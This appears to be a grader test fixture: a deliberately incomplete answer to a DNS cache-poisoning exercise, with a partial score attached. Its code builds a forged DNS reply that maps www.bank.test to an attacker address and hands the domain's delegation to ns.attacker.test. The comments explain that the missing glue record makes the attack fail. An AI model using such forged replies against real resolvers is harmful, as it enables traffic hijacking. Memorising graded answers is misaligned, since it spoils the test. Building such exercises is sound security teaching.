import type { PartialSubmission } from "../partials";

/**
 * The header right; a forged reply that takes bank.test's delegation over but
 * forgets the glue, so the resolver is left with a server it cannot find: it
 * answers SERVFAIL for www.bank.test, never the attacker's address.
 */
const partial: PartialSubmission = {
  answers: {
    "forge-solution": `function forgedReply(name: string, id: number): Buffer {
  const wire = (n: string) => Buffer.concat([...n.split(".").filter((l) => l).map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])), Buffer.from([0])]);
  const record = (owner: string, type: number, rdata: Buffer) => {
    const fixed = Buffer.alloc(10);
    fixed.writeUInt16BE(type, 0);
    fixed.writeUInt16BE(1, 2);
    fixed.writeUInt32BE(86400, 4);
    fixed.writeUInt16BE(rdata.length, 8);
    return Buffer.concat([wire(owner), fixed, rdata]);
  };
  return Buffer.concat([
    forgedHeader(id, 1, 1, 0),
    wire(name), Buffer.from([0, 1, 0, 1]),
    record(name, 1, Buffer.from([10, 6, 6, 6])),
    record("bank.test.", 2, wire("ns.attacker.test.")),
  ]);
}
`,
  },
  points: {
    // Six checks: the decoded records lack the glue, for the visible name and for the names of other lengths; the two
    // fixed-port races end in SERVFAIL, not 10.6.6.6; random ports (10.0.0.80) and the bailiwick check (SERVFAIL) give
    // what they give any forgery.
    "forge-check": 2.67,
  },
};
export default partial;
